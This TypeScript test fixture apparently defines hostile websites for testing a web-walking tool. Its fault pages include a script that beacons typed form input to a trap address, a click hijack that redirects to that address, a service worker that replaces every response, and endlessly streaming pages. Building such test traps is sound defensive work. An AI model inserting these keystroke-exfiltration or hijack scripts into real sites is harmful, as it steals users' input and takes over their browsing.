/** Sites that misbehave while the whole walk is made: a question is answered, a form is typed in, and left. */
import { endless, page, script, withWays, type Fault, type Handler } from './fault.ts'
import { pages } from './pages.ts'

const HTML = 'text/html; charset=utf-8'
const on =
  (html: string, paths: Readonly<Record<string, Handler>> = {}): Handler =>
  (request, response, traps) => {
    const handler = paths[request.url!.split('?')[0]!]
    if (handler) handler(request, response, traps)
    else void response.setHeader('content-type', HTML).end(withWays(html))
  }

/** An ordinary site on which each walk finds something to do. */
export const ORDINARY: Fault = { name: 'whole-ordinary', must: ['seen'], answer: on(page('')) }

/** Rows of pages that reach beyond one look: each walk meets them again. */
const AGAIN = ['ssrf-subresources', 'poison', 'alert-timer', 'sw-hijack']

export const whole: readonly Fault[] = [
  ...pages
    .filter(({ name }) => AGAIN.includes(name))
    .map((fault): Fault => {
      const name = `whole-${fault.name}`
      if ('html' in fault) {
        const { html } = fault
        return { ...fault, name, html: (traps) => withWays(typeof html === 'string' ? html : html(traps)) }
      }
      return fault.name === 'sw-hijack' ? { ...fault, name, answer: hijack } : { ...fault, name }
    }),
  {
    name: 'whole-answer-leaves',
    must: ['seen', 'partial'],
    // Whoever answers the question is led inside.
    html: ({ address }) =>
      withWays(script(`addEventListener('click', () => { location = 'http://${address}/klik' }, true)`)),
  },
  {
    name: 'whole-typed-out',
    must: ['seen', 'partial'],
    // Whoever types is sent away, and what was typed goes along, also inside.
    html: ({ address }) =>
      withWays(
        script(`addEventListener('input', ({ target }) => {
          navigator.sendBeacon('http://${address}/toets', target.value)
          document.forms[0].requestSubmit() }, true)`),
      ),
  },
  {
    name: 'whole-slow',
    must: ['seen', 'partial', 'timeout'],
    answer: on(page(''), {
      '/contact': () => undefined,
      '/privacy': (_, response) => {
        response.writeHead(200, { 'content-type': HTML })
        endless(response, '<p>Wij bewaren uw gegevens.</p>'.repeat(1_000))
      },
      '/stuk.pdf': (_, response) => {
        response.writeHead(200, { 'content-type': 'application/pdf' })
        response.write('%PDF-1.4\n')
        endless(response, '1 0 obj << /Type /Page >> endobj\n'.repeat(1_000))
      },
    }),
  },
]

function hijack(...[request, response, traps]: Parameters<Handler>): void {
  const register = script(`navigator.serviceWorker?.register('/sw.js').catch(() => {})`)
  const worker = `addEventListener('fetch', (event) => event.respondWith(new Response('gekaapt')))`
  on(register, { '/sw.js': (_, r) => void r.setHeader('content-type', 'text/javascript').end(worker) })(
    request,
    response,
    traps,
  )
}
